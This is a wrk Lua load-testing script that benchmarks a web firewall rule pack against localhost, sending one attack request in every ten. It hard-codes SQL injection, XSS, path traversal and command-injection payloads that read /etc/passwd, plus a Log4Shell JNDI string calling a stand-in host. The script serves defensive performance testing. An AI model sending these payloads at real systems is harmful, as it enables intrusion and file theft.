-- 90% the peers kit's benign GET, 10% attacks the default pack blocks
-- (SQL injection, XSS, path traversal, command injection,
-- Log4Shell), interleaved: every tenth request is an attack. Requests are
-- formatted once in init, so wrk's Lua costs the same for every setup.
local H = { ["Host"] = "localhost", ["User-Agent"] = "peers-bench/1.0", ["Accept"] = "application/json" }
local benign, attacks = nil, {}
local n = 0

init = function(args)
  benign = wrk.format("GET", "/", H)
  local paths = {
    "/?id=1%27%20OR%20%271%27=%271",
    "/?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/static/..%2f..%2f..%2fetc%2fpasswd",
    "/?host=127.0.0.1%3Bcat%20/etc/passwd",
  }
  for _, p in ipairs(paths) do attacks[#attacks + 1] = wrk.format("GET", p, H) end
  -- Only attacks the pack blocks at once: scanner User-Agents are tarpitted
  -- (held 5 s), which would measure the tarpit, not the decision.
  attacks[#attacks + 1] = wrk.format("GET", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", H)
end

request = function()
  n = n + 1
  if n % 10 == 0 then
    return attacks[math.floor(n / 10) % #attacks + 1]
  end
  return benign
end

done = function(summary, latency, requests)
  local e = summary.errors
  io.write(string.format(
    "RESULT requests=%d duration_us=%d rps=%.2f p50_us=%d p90_us=%d p99_us=%d max_us=%d non2xx=%d err_connect=%d err_read=%d err_write=%d err_timeout=%d\n",
    summary.requests, summary.duration, summary.requests / (summary.duration / 1e6),
    latency:percentile(50), latency:percentile(90), latency:percentile(99), latency.max,
    e.status, e.connect, e.read, e.write, e.timeout))
end
